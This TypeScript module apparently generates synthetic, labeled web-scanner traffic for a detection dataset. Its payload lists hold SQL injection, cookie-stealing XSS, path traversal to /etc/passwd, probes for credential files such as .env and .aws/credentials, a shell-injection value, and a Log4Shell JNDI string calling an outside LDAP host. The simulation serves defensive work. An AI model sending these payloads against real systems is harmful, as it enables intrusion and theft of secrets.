import { APIS, type UaProfile } from '../catalog';
import { exponential, Weighted } from '../distributions';
import type { Rng } from '../prng';
import type { GenContext, GenRequest } from '../types';
import { SCANNERS } from '../user-agents';
import { Attack, type AttackEnv } from './base';

/** SQL injection payloads as tools send them (percent-encoded, a few raw). */
const SQLI = [
  "1%27%20OR%20%271%27%3D%271",
  '1%27%20AND%201%3D1--%20-',
  '1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-',
  "1%27%3B%20WAITFOR%20DELAY%20%270%3A0%3A5%27--",
  '1%20AND%20SLEEP(5)',
  "%27%20OR%201%3D1%23",
  "admin%27--",
  "1'OR'1'='1",
  '-1+UNION+SELECT+username,password+FROM+users--',
  '1%29%20AND%20%28SELECT%201%20FROM%20pg_sleep%285%29%29--',
];

const XSS = [
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '<script>alert(document.cookie)</script>',
  '%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
  'javascript:alert(1)',
  '<svg/onload=alert(1)>',
  '%3Ciframe%20src%3Djavascript%3Aalert(1)%3E',
];

/** Whole request targets (path and optional query) for traversal, sensitive files and injection. */
const TRAVERSAL = [
  '/api/v1/files/..%2F..%2F..%2Fetc%2Fpasswd',
  '/static/../../../../etc/passwd',
  '/..%2f..%2f..%2f..%2fetc/passwd',
  '/api/v1/products?image=../../../../etc/passwd',
  '/download?file=....//....//....//etc/passwd',
  '/%2e%2e/%2e%2e/%2e%2e/windows/win.ini',
  '/api/v1/export?path=..%5C..%5C..%5Cwindows%5Csystem32%5Cdrivers%5Cetc%5Chosts',
];

const SENSITIVE = [
  '/.env', '/.git/config', '/.git/HEAD', '/wp-config.php.bak', '/config.json', '/.aws/credentials', '/server-status',
  '/.DS_Store', '/backup.sql', '/db.sql.gz', '/.htpasswd', '/phpinfo.php', '/actuator/env', '/WEB-INF/web.xml',
  '/.svn/entries', '/id_rsa', '/api/.env', '/.npmrc', '/docker-compose.yml', '/.vscode/sftp.json',
];

const OTHER = [
  '/api/v1/products?q=%3Bcat%20%2Fetc%2Fpasswd',
  '/api/v1/orders?status=%24%7Bjndi%3Aldap%3A%2F%2F45.83.64.1%3A1389%2Fa%7D',
  '/api/v1/products?q=%7B%7B7*7%7D%7D',
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
];

type Make = (rng: Rng) => [path: string, query: string];

const PROBES = Weighted.of<Make>([
  [(rng) => ['/api/v1/products', `q=${rng.pick(SQLI)}`], 5],
  [(rng) => [`/api/v1/products/${rng.pick(SQLI)}`, ''], 3],
  [(rng) => ['/api/v1/orders', `status=${rng.pick(SQLI)}&page=1`], 2],
  [(rng) => ['/api/v1/products', `q=${rng.pick(XSS)}`], 3],
  [(rng) => split(rng.pick(TRAVERSAL)), 3],
  [(rng) => [rng.pick(SENSITIVE), ''], 5],
  [(rng) => split(rng.pick(OTHER)), 1],
]);

function split(target: string): [string, string] {
  const q = target.indexOf('?');
  return q < 0 ? [target, ''] : [target.slice(0, q), target.slice(q + 1)];
}

/** Content probing: SQLi, XSS, traversal and sensitive-file requests from a scanner with a tool User-Agent. */
export class ContentProbing extends Attack {
  private readonly ip: string;
  private readonly row: number;
  private readonly ua: UaProfile;
  private left: number;
  private readonly gapMs: number;

  constructor(id: number, start: number, env: AttackEnv, episode: number) {
    super(id, 'content_probing', start);
    const rng = env.rng;
    this.ip = env.pool.v4();
    this.row = env.truth.open(this.ip, 'content_probing', episode);
    this.ua = rng.pick(SCANNERS);
    this.left = rng.int(15, 80);
    this.gapMs = 1000 / rng.range(0.5, 5);
  }

  emit(req: GenRequest, ctx: GenContext): boolean {
    const rng = ctx.rng;
    const [path, query] = PROBES.pick(rng)(rng);
    this.fill(req, this.ip, this.row, this.ua, 'GET', path, query, null);
    if (this.gateway(req, rng)) {
      const x = rng.float();
      const status = req.resource === APIS.products.resources[0] ? (x < 0.5 ? 200 : x < 0.8 ? 400 : 500) : x < 0.6 ? 404 : x < 0.85 ? 400 : 500;
      this.respond(req, rng, status, status === 200 ? 900 : 160, status === 500 ? 300 : 25);
    }
    if (--this.left > 0) this.after(Math.max(30, exponential(rng, this.gapMs)));
    else this.done = true;
    return true;
  }
}
